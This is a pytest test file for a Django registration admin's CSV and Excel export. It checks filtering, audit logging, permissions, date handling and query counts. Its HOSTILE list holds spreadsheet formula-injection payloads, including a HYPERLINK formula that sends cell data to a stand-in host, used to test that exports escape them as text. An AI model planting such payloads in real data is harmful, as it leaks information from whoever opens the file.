import csv
import io

import pytest

from forum.models import Entry
from registration.admin.registration import RegistrationPage
from tests.factories import make_event, make_person, make_registration

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
]


def rows_of(answer):
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def sheet_of():
    """Reads an answer's first sheet."""
    openpyxl = pytest.importorskip("openpyxl", reason="./run test installs openpyxl")

    def read(answer):
        content = b"".join(answer.streaming_content)
        return openpyxl.load_workbook(io.BytesIO(content)).active

    return read


def test_the_list_as_filtered_is_the_list_as_exported(event, organiser, signed_in):
    make_registration(event, family_name="Here", mode="on_site")
    make_registration(event, family_name="There", mode="online")

    answer = signed_in(organiser).get(
        "/admin/registration/registration/export.csv?mode__exact=online"
    )

    assert [row["family name"] for row in rows_of(answer)] == ["There"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_text_in_both_formats(event, organiser, signed_in, sheet_of, value):
    make_registration(event, organisation_name=value)
    browser = signed_in(organiser)

    [row] = rows_of(browser.get("/admin/registration/registration/export.csv"))
    sheet = sheet_of(browser.get("/admin/registration/registration/export.xlsx"))

    assert row["organisation"] == f"'{value}"
    [cell] = [cell for cell in sheet[2] if cell.value == value]
    assert cell.data_type == "s"


def test_times_are_typed_and_in_the_events_zone(event, organiser, signed_in, sheet_of):
    made = make_registration(event)

    sheet = sheet_of(signed_in(organiser).get("/admin/registration/registration/export.xlsx"))

    heads = [cell.value for cell in sheet[1]]
    cell = sheet[2][heads.index("registered")]
    assert cell.is_date
    assert cell.value.hour == made.created_at.astimezone(event.zone).hour
    assert sheet.freeze_panes == "A2"


def test_names_of_every_script_come_back_whole(event, organiser, signed_in):
    name = "Zoë Ø’Connor-Łukasiewicz 李小龙 محمد Жук"
    make_registration(event, family_name=name)

    [row] = rows_of(signed_in(organiser).get("/admin/registration/registration/export.csv"))

    assert row["family name"] == name


def test_each_export_leaves_an_entry_of_who_what_and_how_many(event, organiser, signed_in):
    for _ in range(2):
        make_registration(event)

    signed_in(organiser).get("/admin/registration/registration/export.csv?mode__exact=on_site")

    entry = Entry.objects.get()
    assert (entry.act, entry.person, entry.event) == ("export", organiser, event)
    assert entry.facts["rows"] == 2
    assert entry.facts["filter"] == {"mode__exact": "on_site"}


@pytest.mark.parametrize("query", ["category__id__exact=x", "p=99"])
def test_a_filter_or_page_that_makes_no_sense_leads_to_the_list(
    event, organiser, signed_in, monkeypatch, query
):
    monkeypatch.setattr(RegistrationPage, "list_per_page", 1)
    for category in ("operator", "media"):
        make_registration(event, category=category)

    answer = signed_in(organiser).get(f"/admin/registration/registration/export.csv?{query}")

    assert (answer.status_code, answer["Location"]) == (302, "/admin/registration/registration/")


def test_other_events_stay_out(event, organiser, signed_in):
    make_registration(make_event("minsk-2022"))

    assert rows_of(signed_in(organiser).get("/admin/registration/registration/export.csv")) == []


def test_the_desk_sees_the_list_but_takes_none_with_it(event, signed_in):
    make_registration(event)
    desk = signed_in(make_person(role="desk", event=event))

    assert desk.get("/admin/registration/registration/").status_code == 200
    assert desk.get("/admin/registration/registration/export.csv").status_code == 403


@pytest.mark.parametrize("people", [1, 3])
def test_an_export_costs_a_fixed_number_of_queries(
    event, organiser, signed_in, people, django_assert_num_queries
):
    for _ in range(people):
        make_registration(event)
    browser = signed_in(organiser)

    with django_assert_num_queries(27):
        rows_of(browser.get("/admin/registration/registration/export.csv"))
